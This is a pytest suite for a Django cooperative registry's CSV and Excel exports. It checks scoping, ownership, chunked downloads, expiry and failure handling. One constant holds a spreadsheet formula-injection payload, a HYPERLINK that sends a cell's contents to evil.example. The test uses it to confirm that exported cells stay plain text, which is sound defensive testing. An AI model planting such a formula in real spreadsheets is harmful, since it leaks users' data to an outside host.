"""Exports of any size (cooperatives.exports): small ones streamed, large ones written in the
background and downloaded by their owner only, for a day; the same rows as the page, in scope."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from accounts.models import User
from coop_tracker.lib.tables import LargeTablePaginator
from cooperatives import exports
from cooperatives.models import Export, ExportChunk, Organisation
from tests.factories import logged_in, province

pytestmark = pytest.mark.django_db
URL = reverse("registry_list")
FORMULA = '=HYPERLINK("http://evil.example/?d="&B3,"Bấm")'


def body(response) -> bytes:
    assert response.streaming
    return b"".join(response.streaming_content)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def xlsx_rows(data: bytes) -> list[tuple]:
    return list(openpyxl.load_workbook(io.BytesIO(data), read_only=True).active.iter_rows(values_only=True))


def page_rows(client, query) -> list:
    """The rows the registry page lists for `query`: its own filter set, as the page ran it."""
    context = client.get(URL, query).context
    return list(LargeTablePaginator.ordered(context["table"].data.data))  # ended by the id, as its pages are


QUERIES = [
    {},
    {"kind": "htx"},
    {"kind": "htx", "sector": "agriculture", "status": "active"},
    {"rating": "good"},
    {"q": "Hợp tác xã"},
    {"province": lambda: province("25").pk},
    {"kind": "tht", "sort": "-founded_on"},
    {"kind": "htx", "sort": "rating_level"},  # by the level of the page's rating year, best first
    {"sort": "-rating_level"},
    {"kind": "nonsense"},  # an invalid filter lists nothing, on the page as in the export
]


@pytest.mark.parametrize("query", QUERIES, ids=lambda q: "&".join(q) or "all")
def test_a_streamed_csv_holds_the_pages_rows_in_the_pages_order(client, query, settings):
    settings.EXPORT_INLINE_ROWS = 100_000
    query = {name: value() if callable(value) else value for name, value in query.items()}
    admin = logged_in(client, "lanhdao")
    expected = page_rows(admin, query)
    response = admin.get(URL, {**query, "_export": "csv"})
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"].startswith("attachment")
    rows = csv_rows(body(response))
    assert len(rows) - 1 == len(expected)
    assert [row[1] for row in rows[1:]] == [o.registration_code for o in expected]  # the page's order
    if query.get("kind") == "htx" and not query.get("sector"):
        assert len(expected) == Organisation.objects.filter(kind="htx").count()


def test_a_streamed_excel_export_has_the_pages_columns_and_values(client, settings):
    settings.EXPORT_INLINE_ROWS = 100_000
    admin = logged_in(client, "lanhdao")
    query = {"kind": "htx", "sort": "name"}
    expected = page_rows(admin, query)
    rows = xlsx_rows(body(admin.get(URL, {**query, "_export": "xlsx"})))
    assert rows[0][0] == "Tên" and len(rows[0]) == 9
    assert len(rows) - 1 == len(expected) > 100
    first = expected[0]
    assert rows[1][:3] == (first.name, first.registration_code or None, "Hợp tác xã")
    assert rows[1][7].date() == first.founded_on  # a date, not text


def test_staff_export_only_their_province_whatever_the_query(client, settings):
    settings.EXPORT_INLINE_ROWS = 100_000
    staff = logged_in(client, "canbo.bacninh")
    bac_ninh = province("24")
    own = Organisation.objects.filter(province=bac_ninh)
    for query in ({}, {"province": province("25").pk}):
        rows = csv_rows(body(staff.get(URL, {**query, "_export": "csv"})))
        names = {row[6] for row in rows[1:]}
        assert names <= {bac_ninh.full_name}
        if not query:
            assert len(rows) - 1 == own.count() > 0


def start_background(client, query, export_format="csv"):
    response = client.get(URL, {**query, "_export": export_format})
    export = Export.objects.latest("pk")
    assert response.status_code == 302 and response["Location"] == export.get_absolute_url()
    assert export.status == Export.Status.QUEUED
    return export


def test_above_the_setting_the_export_is_queued_then_written_and_downloaded(client, settings):
    settings.EXPORT_INLINE_ROWS = 10
    evil = Organisation.objects.filter(kind="htx").order_by("pk").first()
    Organisation.objects.filter(pk=evil.pk).update(name=FORMULA)
    admin = logged_in(client, "admin")
    expected = Organisation.objects.filter(kind="htx")
    export = start_background(admin, {"kind": "htx"}, "xlsx")
    assert export.rows_total == expected.count() > 10
    page = admin.get(export.get_absolute_url()).content.decode()
    assert 'id="import-progress"' in page  # the import's progress bar
    assert admin.get(reverse("export_download", args=[export.pk])).status_code == 404  # not written yet

    done = exports.registry_export_build(export_id=export.pk)  # what the worker runs
    assert (done.status, done.rows_done) == (Export.Status.DONE, expected.count())
    assert exports.registry_export_build(export_id=export.pk) is None  # a duplicate message writes nothing
    status = admin.get(reverse("export_status", args=[export.pk])).json()
    assert (status["running"], status["percent"]) == (False, 100)
    page = admin.get(export.get_absolute_url()).content.decode()
    assert reverse("export_download", args=[export.pk]) in page

    response = admin.get(reverse("export_download", args=[export.pk]))
    data = body(response)
    assert int(response["Content-Length"]) == len(data) == done.size
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.max_row - 1 == expected.count()
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert FORMULA in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


def test_a_large_file_is_stored_and_sent_in_chunks(client, settings, monkeypatch):
    settings.EXPORT_INLINE_ROWS = 10
    monkeypatch.setattr(exports, "DOWNLOAD_CHUNK", 4096)
    admin = logged_in(client, "lanhdao")
    export = start_background(admin, {})
    exports.registry_export_build(export_id=export.pk)
    assert ExportChunk.objects.filter(export=export).count() > 3
    response = admin.get(reverse("export_download", args=[export.pk]))
    pieces = list(response.streaming_content)
    assert len(pieces) > 3 and all(len(piece) <= 4096 for piece in pieces)
    rows = csv_rows(b"".join(pieces))
    assert len(rows) - 1 == Organisation.objects.count()


def test_a_background_export_keeps_the_staff_scope_and_the_filter(client, settings):
    settings.EXPORT_INLINE_ROWS = 10
    staff = logged_in(client, "canbo.bacninh")
    bac_ninh = province("24")
    expected = Organisation.objects.filter(province=bac_ninh, kind="htx")
    # Phú Thọ is not a choice of Bắc Ninh's staff: the filter is invalid, the page lists nothing, and so
    # does the export (small, so streamed). Without it, the province's HTX, in the page's order.
    other = staff.get(URL, {"kind": "htx", "province": province("25").pk, "_export": "csv"})
    assert csv_rows(body(other))[1:] == []
    export = start_background(staff, {"kind": "htx", "sort": "-name"})
    exports.registry_export_build(export_id=export.pk)
    rows = csv_rows(body(staff.get(reverse("export_download", args=[export.pk]))))[1:]
    assert [row[0] for row in rows] == list(expected.order_by("-name").values_list("name", flat=True))
    assert {row[6] for row in rows} == {bac_ninh.full_name}


def test_an_export_is_its_owners_only(client, settings):
    settings.EXPORT_INLINE_ROWS = 10
    export = start_background(logged_in(client, "canbo.bacninh"), {"kind": "htx"})
    exports.registry_export_build(export_id=export.pk)
    for other in ("admin", "lanhdao", "lanhdao.bacninh", "canbo.phutho"):
        someone = logged_in(client, other)
        for name in ("export_detail", "export_status", "export_download"):
            assert someone.get(reverse(name, args=[export.pk])).status_code == 404, (other, name)
    owner = logged_in(client, "canbo.bacninh")
    assert owner.get(reverse("export_download", args=[export.pk])).status_code == 200
    User.objects.filter(username="canbo.bacninh").update(is_active=False)
    assert Export.objects.visible_to(User.objects.get(username="canbo.bacninh")).count() == 0


def test_an_export_is_kept_a_day_then_deleted_by_the_hourly_task(client, settings):
    settings.EXPORT_INLINE_ROWS = 10
    admin = logged_in(client, "admin")
    old = start_background(admin, {"kind": "htx"})
    exports.registry_export_build(export_id=old.pk)
    recent = start_background(admin, {"kind": "tht"})
    exports.registry_export_build(export_id=recent.pk)
    stalled = start_background(admin, {"sector": "agriculture"})
    day_ago = timezone.now() - datetime.timedelta(hours=settings.EXPORT_KEPT_HOURS, minutes=1)
    Export.objects.filter(pk=old.pk).update(created_at=day_ago)
    Export.objects.filter(pk=stalled.pk).update(updated_at=timezone.now() - datetime.timedelta(hours=2))

    for name in ("export_detail", "export_download"):  # gone, even before the clean-up runs
        assert admin.get(reverse(name, args=[old.pk])).status_code == 404
    assert admin.get(reverse("export_download", args=[recent.pk])).status_code == 200

    from cooperatives.tasks import expire_exports

    assert expire_exports() == {"deleted": 1, "stopped": 1}
    assert not Export.objects.filter(pk=old.pk).exists()
    assert not ExportChunk.objects.filter(export_id=old.pk).exists()
    assert ExportChunk.objects.filter(export_id=recent.pk).exists()
    stalled.refresh_from_db()
    assert stalled.status == Export.Status.FAILED and "dừng giữa chừng" in stalled.message
    assert "dừng giữa chừng" in admin.get(stalled.get_absolute_url()).content.decode()
    assert expire_exports() == {"deleted": 0, "stopped": 0}  # twice changes nothing
    assert "delete day-old exports hourly" in settings.CELERY_BEAT_SCHEDULE


def test_a_failed_export_says_so_and_keeps_no_file(client, settings, monkeypatch):
    settings.EXPORT_INLINE_ROWS = 10
    admin = logged_in(client, "admin")
    export = start_background(admin, {"kind": "htx"})

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(exports, "registry_write", broken)
    done = exports.registry_export_build(export_id=export.pk)
    assert done.status == Export.Status.FAILED and done.message
    assert not ExportChunk.objects.filter(export=export).exists()
    assert admin.get(reverse("export_download", args=[export.pk])).status_code == 404
    assert done.message in admin.get(export.get_absolute_url()).content.decode()


def test_an_export_asked_in_english_is_written_in_english(client, settings):
    settings.EXPORT_INLINE_ROWS = 10
    admin = logged_in(client, "admin")
    response = admin.get(URL, {"kind": "htx", "_export": "csv"}, HTTP_ACCEPT_LANGUAGE="en")
    export = Export.objects.get(pk=int(response["Location"].rstrip("/").split("/")[-1]))
    assert export.params["language"] == "en"
    exports.registry_export_build(export_id=export.pk)
    rows = csv_rows(body(admin.get(reverse("export_download", args=[export.pk]))))
    assert rows[1][2] == "Cooperative"
